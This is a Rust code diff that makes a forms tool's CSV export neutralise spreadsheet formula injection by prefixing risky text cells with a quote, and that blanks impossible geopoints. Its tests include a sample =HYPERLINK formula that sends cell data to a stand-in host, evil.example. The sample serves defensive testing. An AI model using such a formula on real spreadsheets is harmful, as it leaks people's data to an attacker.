@@ -2,8 +2,18 @@
 //! joined by `PARENT_KEY` and `KEY` (`uuid:…/household[1]`), group paths in headers
 //! (`group-question`), a select_multiple as space-separated names plus one 0/1 column per
 //! option, a geopoint as four columns, dates in ISO 8601.
+//!
+//! Formulas: a spreadsheet runs a cell that begins with `=`, `+`, `-` or `@` (and, in some, a
+//! tab or a carriage return) as a formula, and a formula such as `HYPERLINK` can send the
+//! sheet's contents away when clicked. As OWASP advises against CSV injection, every text cell
+//! that begins with one of these six is written with a `'` in front (`'=HYPERLINK(…)`), which
+//! spreadsheets show as text and people can still read; quoting is then applied as usual.
+//! Text cells are answers of text, select and file questions (names or labels), the headers
+//! and the submitter and version columns. Numbers, dates and geopoint parts are never
+//! prefixed, so a longitude of `-78.5` reads back as a number. A geopoint that is no place on
+//! Earth ([`point_fault`]) leaves its four cells empty; its row stays.
 
-use super::{iso_time, CsvOptions, ExportSubmission};
+use super::{iso_time, point_fault, CsvOptions, ExportSubmission};
 use minga_forms::{Answers, Choice, Form, Item, QuestionType, Value};
 use std::borrow::Cow;
 
@@ -26,6 +36,16 @@ impl Table {
             out.push_str("\r\n");
         }
         out
+    }
+}
+
+/// A text cell as a spreadsheet may read it safely: with a `'` in front when it begins with a
+/// character that makes a formula (OWASP's list).
+fn text_cell(text: String) -> String {
+    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        format!("'{text}")
+    } else {
+        text
     }
 }
 
@@ -185,6 +205,7 @@ fn cell(form: &Form, column: &Column, value: Option<&Value>, options: &CsvOption
         }
     };
     match (&column.part, value) {
+        (Part::Geo(_), Value::GeoPoint(p)) if point_fault(p).is_some() => String::new(),
         (Part::Geo(i), Value::GeoPoint(p)) => {
             [Some(p.latitude), Some(p.longitude), p.altitude, p.accuracy][*i]
                 .map(|x| x.to_string())
@@ -199,22 +220,25 @@ fn cell(form: &Form, column: &Column, value: Option<&Value>, options: &CsvOption
             } else {
                 " "
             };
-            ordered_choices(form, column, chosen)
-                .iter()
-                .map(|n| label(n))
-                .collect::<Vec<_>>()
-                .join(separator)
+            text_cell(
+                ordered_choices(form, column, chosen)
+                    .iter()
+                    .map(|n| label(n))
+                    .collect::<Vec<_>>()
+                    .join(separator),
+            )
         }
-        (Part::Whole, Value::Choice(name)) => label(name),
-        (Part::Whole, Value::Text(text)) => text.clone(),
+        (Part::Whole, Value::Choice(name)) => text_cell(label(name)),
+        (Part::Whole, Value::Text(text)) => text_cell(text.clone()),
         (Part::Whole, Value::Integer(n)) => n.to_string(),
         (Part::Whole, Value::Decimal(x)) => x.to_string(),
         (Part::Whole, Value::Date(d)) => d.format("%Y-%m-%d").to_string(),
         (Part::Whole, Value::Time(t)) => t.format("%H:%M:%S%.3f").to_string(),
         (Part::Whole, Value::DateTime(t)) => t.to_rfc3339_opts(chrono::SecondsFormat::Millis, true),
-        (Part::Whole, Value::Attachment(file)) => file.file_name.clone(),
-        // A value of another type than the column expects (the form changed): show it whole.
-        (_, other) => super::plain_value(other).to_string(),
+        (Part::Whole, Value::Attachment(file)) => text_cell(file.file_name.clone()),
+        // A value of another type than the column expects (the form changed): show it whole,
+        // as the JSON text it is.
+        (_, other) => text_cell(super::plain_value(other).to_string()),
     }
 }
 
@@ -316,7 +340,7 @@ pub fn tables(form: &Form, submissions: &[ExportSubmission], options: &CsvOption
             };
             Table {
                 name: plan.name.clone(),
-                header,
+                header: header.into_iter().map(text_cell).collect(),
                 rows: Vec::new(),
             }
         })
@@ -327,13 +351,13 @@ pub fn tables(form: &Form, submissions: &[ExportSubmission], options: &CsvOption
         row.extend(answer_cells(form, &plans[0], &submission.answers, options));
         row.extend([
             key.clone(),
-            submission.author.clone(),
-            submission.author_name.clone(),
+            text_cell(submission.author.clone()),
+            text_cell(submission.author_name.clone()),
             submission
                 .review_state
                 .map(|state| state.as_str().to_string())
                 .unwrap_or_default(),
-            submission.form_version.clone(),
+            text_cell(submission.form_version.clone()),
             iso_time(&submission.updated_at),
             key.clone(),
         ]);
@@ -355,6 +379,7 @@ pub fn tables(form: &Form, submissions: &[ExportSubmission], options: &CsvOption
 mod tests {
     use super::*;
     use crate::export::fixtures;
+    use minga_forms::GeoPoint;
 
     fn column<'a>(table: &'a Table, header: &str) -> Vec<&'a str> {
         let i = table
@@ -488,5 +513,127 @@ mod tests {
         .to_csv();
         assert!(csv.contains(",\"Rosa, \"\"la tía\"\"\","), "{csv}");
         assert_eq!(csv.lines().count(), 3);
+    }
+
+    fn set(submission: &mut ExportSubmission, name: &str, value: Value) {
+        submission
+            .answers
+            .fields
+            .insert(name.into(), minga_forms::Answer::Value(value));
+    }
+
+    #[test]
+    fn text_cells_that_a_spreadsheet_would_run_get_a_leading_quote() {
+        let mut submissions = fixtures::submissions();
+        let formula = "=HYPERLINK(\"https://evil.example/?\"&A2,\"Open\")";
+        set(
+            &mut submissions[0],
+            "respondent",
+            Value::Text(formula.into()),
+        );
+        set(
+            &mut submissions[0],
+            "feels_safe",
+            Value::Choice("@SUM(1)".into()),
+        );
+        submissions[0].author_name = "-Ana".into();
+        submissions[0].form_version = "+1".into();
+        for (n, start) in ["\tx", "\rx"].into_iter().enumerate() {
+            let mut more = submissions[1].clone();
+            more.id = format!("0b6f3a52-0000-4000-8000-00000000001{n}");
+            set(&mut more, "respondent", Value::Text(start.into()));
+            submissions.push(more);
+        }
+        let main = &tables(&fixtures::form(), &submissions, &CsvOptions::default())[0];
+        assert_eq!(
+            column(main, "who-respondent"),
+            [
+                format!("'{formula}"),
+                "Pedro".into(),
+                "'\tx".into(),
+                "'\rx".into()
+            ]
+        );
+        assert_eq!(column(main, "feels_safe")[0], "'@SUM(1)", "a choice name");
+        assert_eq!(column(main, "SubmitterName")[0], "'-Ana");
+        assert_eq!(column(main, "FormVersion")[0], "'+1");
+        let csv = main.to_csv();
+        assert!(
+            csv.contains(",\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A2,\"\"Open\"\")\","),
+            "quoted as usual after the prefix: {csv}"
+        );
+    }
+
+    #[test]
+    fn choice_labels_are_neutralised_too() {
+        let form: Form = serde_json::from_str(
+            &include_str!("../../tests/data/safety_walk.json")
+                .replace("\"English (en)\": \"No\"", "\"English (en)\": \"=1+1\""),
+        )
+        .unwrap();
+        let options = CsvOptions {
+            labels_in: Some("English (en)".into()),
+        };
+        let main = &tables(&form, &fixtures::submissions(), &options)[0];
+        assert_eq!(column(main, "feels_safe")[0], "'=1+1");
+    }
+
+    #[test]
+    fn numbers_dates_and_geopoint_parts_are_never_prefixed() {
+        let mut submissions = fixtures::submissions();
+        set(&mut submissions[0], "age", Value::Integer(-5));
+        set(
+            &mut submissions[0],
+            "location",
+            Value::GeoPoint(GeoPoint {
+                latitude: -0.25,
+                longitude: -78.5,
+                altitude: Some(-12.0),
+                accuracy: Some(3.0),
+            }),
+        );
+        let main = &tables(&fixtures::form(), &submissions, &CsvOptions::default())[0];
+        assert_eq!(column(main, "who-age")[0], "-5");
+        assert_eq!(column(main, "location-Latitude")[0], "-0.25");
+        assert_eq!(column(main, "location-Longitude")[0], "-78.5");
+        assert_eq!(column(main, "location-Altitude")[0], "-12");
+        assert!(main.to_csv().contains(",-0.25,-78.5,-12,3,"));
+    }
+
+    #[test]
+    fn a_point_that_is_no_place_keeps_its_row_with_empty_geopoint_cells() {
+        let impossible = [
+            (1000.0, -78.5, Some(3.0)),
+            (-0.2, -500.0, None),
+            (f64::NAN, -78.5, None),
+            (-0.2, f64::INFINITY, None),
+            (-0.2, -78.5, Some(-1.0)),
+        ];
+        let submissions: Vec<ExportSubmission> = impossible
+            .iter()
+            .map(|&(latitude, longitude, accuracy)| {
+                let mut submission = fixtures::submissions().remove(0);
+                set(
+                    &mut submission,
+                    "location",
+                    Value::GeoPoint(GeoPoint {
+                        latitude,
+                        longitude,
+                        altitude: Some(2850.0),
+                        accuracy,
+                    }),
+                );
+                submission
+            })
+            .collect();
+        let main = &tables(&fixtures::form(), &submissions, &CsvOptions::default())[0];
+        assert_eq!(main.rows.len(), impossible.len(), "every row stays");
+        for part in ["Latitude", "Longitude", "Altitude", "Accuracy"] {
+            let cells = column(main, &format!("location-{part}"));
+            assert!(cells.iter().all(|c| c.is_empty()), "{part}: {cells:?}");
+        }
+        assert!(column(main, "who-respondent")
+            .iter()
+            .all(|r| r.starts_with("Rosa")));
     }
 }
